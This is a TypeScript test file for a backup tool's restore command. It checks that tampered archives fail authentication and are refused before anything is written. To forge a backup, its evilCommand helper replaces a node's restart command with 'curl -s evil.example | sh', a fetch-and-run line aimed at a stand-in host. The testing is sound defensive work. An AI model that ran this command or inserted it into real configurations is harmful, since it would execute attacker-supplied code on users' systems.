/**
 * Backups are authenticated under the CA passphrase (issue 13, item 10). An attacker who edits an
 * archive (here: a node's restart command) and recomputes its manifest and its .sha256 is refused
 * before anything is written; a backup this machine cannot authenticate restores only with
 * --accept-unauthenticated and says "checksum only". Real tar, gzip and sha256sum do the tampering.
 */
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { workspace, runCli, sh, cleanup } from '../helpers/cli.ts';
import { json, ok, seed } from './helpers.ts';

const ws = workspace();
after(() => cleanup(ws.dir));
seed(ws, ['web']);
ok(ws.cli('node', 'edit', 'web', '--ssh', 'deploy@10.0.0.1', '--restart', 'systemctl reload nginx'), 'push settings');
const path = (...p: string[]) => join(ws.dir, ...p);
const archive = path('vault.tgz');
const backup = ws.cli('backup', '--out', archive);
const otherPass = path('other-pass');
writeFileSync(otherPass, 'another machine, another passphrase\n', { mode: 0o600 });

/** The CLI against another home, with a passphrase file (this machine's, unless told). */
const at = (home: string, pass: string, ...args: string[]) => runCli(['--home', home, '--passphrase-file', pass, ...args]);
const sha = (data: Buffer | string) => createHash('sha256').update(data).digest('hex');

/** Unpacks the genuine archive, lets `edit` change it, recomputes the manifest and the .sha256. */
function forged(name: string, edit: (root: string) => void): string {
  const work = path(`work-${name}`);
  mkdirSync(work);
  sh('tar', ['xzf', archive, '-C', work]);
  const root = join(work, 'cluster-trust-backup');
  edit(root);
  const manifestPath = join(root, 'MANIFEST.json');
  const manifest = JSON.parse(readFileSync(manifestPath, 'utf8')) as { files: Array<{ path: string; size: number; sha256: string }> };
  for (const f of manifest.files) {
    const data = readFileSync(join(root, 'vault', f.path));
    f.size = data.length;
    f.sha256 = sha(data);
  }
  writeFileSync(manifestPath, `${JSON.stringify(manifest, null, 1)}\n`);
  const out = path(`${name}.tgz`);
  sh('tar', ['czf', out, '-C', work, 'cluster-trust-backup']);
  writeFileSync(`${out}.sha256`, sh('sha256sum', [`${name}.tgz`], { cwd: ws.dir }));
  return out;
}

const evilCommand = (root: string) => {
  const inv = join(root, 'vault', 'inventory.json');
  writeFileSync(inv, readFileSync(inv, 'utf8').replace('systemctl reload nginx', 'curl -s evil.example | sh'));
};

function refusedUntouched(file: string, pattern: RegExp, pass = ws.pass, ...extra: string[]): void {
  const home = path('target');
  rmSync(home, { recursive: true, force: true });
  const r = at(home, pass, 'restore', file, ...extra);
  assert.equal(r.code, 1, r.stdout);
  assert.match(r.stderr, pattern);
  assert.match(r.stderr, /[Nn]othing was restored/);
  assert.equal(r.stderr.trim().split('\n').length, 1, 'one line');
  assert.equal(existsSync(home), false, 'nothing was written');
  assert.deepEqual(readdirSync(ws.dir).filter((n) => n.includes('restore-')), [], 'no temp folder left behind');
}

test('a backup carries an authentication code; a genuine one restores as authenticated', () => {
  assert.equal(backup.code, 0, backup.stderr);
  assert.match(backup.stdout, /authenticated with the active CA's passphrase/);
  assert.match(sh('tar', ['tzf', archive]), /cluster-trust-backup\/AUTH\.json/);
  const home = path('genuine');
  const r = at(home, ws.pass, 'restore', archive);
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, /authenticated: the backup's code matches/);
  assert.equal(json<{ authenticated: boolean }>(at(path('genuine-json'), ws.pass, 'restore', archive, '--json'), 'restore').authenticated, true);
  const web = (JSON.parse(readFileSync(join(home, 'inventory.json'), 'utf8')) as { nodes: Array<{ name: string; restart?: string }> }).nodes.find((n) => n.name === 'web');
  assert.equal(web?.restart, 'systemctl reload nginx');
});

test('a changed restart command with a recomputed manifest and .sha256 is refused before anything is written', () => {
  const file = forged('evil-command', evilCommand);
  assert.match(sh('sha256sum', ['-c', `${file}.sha256`], { cwd: ws.dir }), /OK/, 'the checksums agree: only the code can tell');
  refusedUntouched(file, /authentication code does not match/);
  // A code that does not match is never accepted, not even on request.
  refusedUntouched(file, /authentication code does not match/, ws.pass, '--accept-unauthenticated');
});

test('the same forgery without AUTH.json: refused as checksum-only; restored only on request, and said so', () => {
  const file = forged('evil-unsigned', (root) => {
    evilCommand(root);
    rmSync(join(root, 'AUTH.json'));
  });
  refusedUntouched(file, /cannot be authenticated on this machine: it carries no authentication code.*--accept-unauthenticated/);
  const home = path('accepted');
  const r = at(home, ws.pass, 'restore', file, '--accept-unauthenticated');
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, /checksum only, NOT authenticated/);
});

test('on a machine without the CA passphrase: checksum-only, restored only with --accept-unauthenticated', () => {
  refusedUntouched(archive, /cannot be authenticated on this machine: this machine has no passphrase that opens the key of the CA/, otherPass);
  const home = path('elsewhere');
  const r = at(home, otherPass, 'restore', archive, '--accept-unauthenticated');
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, /checksum only, NOT authenticated/);
});

test('a backup made without a working passphrase says it is checksum-only', () => {
  const out = path('unsigned.tgz');
  const r = at(ws.home, otherPass, 'backup', '--out', out);
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, /checksum only, NOT authenticated/);
  assert.doesNotMatch(sh('tar', ['tzf', out]), /AUTH\.json/);
});
